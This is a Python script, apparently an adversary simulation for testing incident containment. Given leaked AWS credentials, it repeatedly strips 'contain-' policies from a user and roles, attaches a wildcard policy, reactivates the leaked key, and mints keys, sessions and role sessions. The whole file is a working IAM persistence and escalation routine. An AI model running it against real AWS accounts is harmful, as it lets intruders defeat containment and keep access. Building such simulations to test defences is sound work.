#!/usr/bin/env python3
"""An intruder (boto3) who fights back with whatever is still alive, every PAUSE seconds.

    boto/bin/python adversary.py --endpoint URL --user NAME [--role ARN]... [--pause 0.5]

The first line of standard input is the credentials that leaked; a line `{"armed": true}` says that it has begun. It
switches its keys on again, strips our policies from the user and the roles, re-attaches its own, mints keys and
sessions, and enters the roles, until standard input closes. Then it prints one document: `held`, all credentials that it
ever had, by name, and `did`, how often each thing worked.
"""

import argparse
import collections
import json
import sys
import threading
import time

import botocore.exceptions
from world import client, mint, policy, session

KEYS = 40


class Adversary:
    def __init__(self, endpoint, user, roles, leaked):
        self.endpoint, self.user, self.roles = endpoint, user, roles
        self.leaked = leaked["access_key_id"]
        self.held = {"leaked": leaked}
        self.clients = {}
        self.did = collections.Counter()

    def call(self, service, work):
        """Does it with the newest credential that is still accepted."""
        for name in reversed(list(self.held)):
            key = (name, service)
            if key not in self.clients:
                self.clients[key] = client(self.endpoint, service, self.held[name])
            try:
                return work(self.clients[key])
            except (botocore.exceptions.ClientError, botocore.exceptions.HTTPClientError):
                continue
        return None

    def note(self, what, worked):
        if worked is not None:
            self.did[what] += 1
        return worked

    def keep(self, what, credentials):
        if credentials:
            self.held[f"{what}-{self.did[what]}"] = credentials

    def strike(self):
        iam = lambda work: self.call("iam", work)  # noqa: E731
        for name in (iam(lambda c: c.list_user_policies(UserName=self.user)["PolicyNames"]) or []):
            if name.startswith("contain-"):
                strip = lambda c, name=name: c.delete_user_policy(UserName=self.user, PolicyName=name)  # noqa: E731
                self.note("stripped", iam(strip))
        grab = lambda c: c.put_user_policy(UserName=self.user, PolicyName="mine", PolicyDocument=policy("*"))  # noqa: E731
        self.note("attached", iam(grab))
        on = lambda c: c.update_access_key(UserName=self.user, AccessKeyId=self.leaked, Status="Active")  # noqa: E731
        self.note("switched-on", iam(on))
        if self.did["minted"] < KEYS:
            self.keep("minted", self.note("minted", iam(lambda c: mint(c, self.user))))
            token = lambda c: session(c.get_session_token()["Credentials"])  # noqa: E731
            self.keep("session", self.note("session", self.call("sts", token)))
        for role in self.roles:
            name = role.rsplit("/", 1)[-1]
            for ours in (iam(lambda c: c.list_role_policies(RoleName=name)["PolicyNames"]) or []):
                if ours.startswith("contain-"):
                    strip = lambda c, ours=ours: c.delete_role_policy(RoleName=name, PolicyName=ours)  # noqa: E731
                    self.note("stripped", iam(strip))
            enter = lambda c: session(c.assume_role(RoleArn=role, RoleSessionName="cli")["Credentials"])  # noqa: E731
            if self.did["entered"] < KEYS:
                self.keep("entered", self.note("entered", self.call("sts", enter)))


def main():
    ask = argparse.ArgumentParser()
    ask.add_argument("--endpoint", required=True)
    ask.add_argument("--user", required=True)
    ask.add_argument("--role", action="append", default=[])
    ask.add_argument("--pause", type=float, default=0.5)
    given = ask.parse_args()
    adversary = Adversary(given.endpoint, given.user, given.role, json.loads(sys.stdin.readline()))
    over = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), over.set()), daemon=True).start()
    adversary.strike()
    print(json.dumps({"armed": True}), flush=True)
    due = time.monotonic()
    while not over.is_set():
        due = max(due + given.pause, time.monotonic())
        if over.wait(max(0.0, due - time.monotonic())):
            break
        adversary.strike()
    print(json.dumps({"held": adversary.held, "did": adversary.did}))


if __name__ == "__main__":
    main()
